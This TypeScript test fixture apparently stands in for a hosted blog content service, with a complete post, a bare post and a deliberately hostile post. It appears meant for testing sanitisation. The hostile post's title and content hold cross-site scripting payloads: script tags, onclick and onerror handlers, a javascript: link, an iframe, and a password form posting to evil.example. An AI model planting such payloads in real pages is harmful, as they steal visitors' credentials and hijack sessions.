const pixel = 'image-0123456789abcdef0123456789abcdef01234567-1600x900-png'

function image(alt: string) {
  return {
    _type: 'image',
    asset: { _type: 'reference', _ref: pixel },
    alt,
    hotspot: { x: 0.25, y: 0.75, height: 0.1, width: 0.1 },
  }
}

function refer(id: string) {
  return { _type: 'reference', _ref: id, _key: id }
}

/** What the stand-in for the hosted content service holds: a whole post, a hostile one, one of which half is missing. */
export const hostedContentDocuments: unknown[] = [
  { _id: 'category-fuel', _type: 'category', title: 'Fuel', slug: { current: 'fuel' } },
  {
    _id: 'author-desk',
    _type: 'author',
    name: 'Method Desk',
    slug: { current: 'desk' },
    image: image('The desk'),
    bio: 'Looks after the factors.',
  },
  { _id: 'author-quiet', _type: 'author', name: 'Quiet Writer', slug: { current: 'quiet' } },
  {
    _id: 'post-whole',
    _type: 'post',
    title: 'Reading a docket',
    slug: { current: 'whole' },
    mainImage: image('A docket'),
    publishedAt: '2026-10-02T00:00:00.000Z',
    excerpt: 'What the lines of a fuel docket say.',
    author: refer('author-desk'),
    categories: [refer('category-fuel')],
    content: '<h2>Litres</h2><p>Hosted words.</p>',
    featured: true,
  },
  {
    _id: 'post-hostile',
    _type: 'post',
    title: 'Hostile <script>alert(1)</script>',
    slug: { current: 'hostile' },
    publishedAt: '2026-10-01T00:00:00.000Z',
    excerpt: 'An excerpt.',
    author: refer('author-desk'),
    categories: [refer('category-fuel')],
    content:
      '<p onclick="steal()">Kept words.</p><script>steal()</script><img src="x" onerror="steal()">' +
      '<a href="javascript:steal()">link</a><iframe src="https://evil.example"></iframe>' +
      '<form action="https://evil.example"><input name="password"></form>' +
      '<p style="position:fixed">Also kept.</p><svg><script>steal()</script></svg></script></div></article>',
  },
  { _id: 'post-bare', _type: 'post', title: 'Bare', slug: { current: 'bare' } },
]
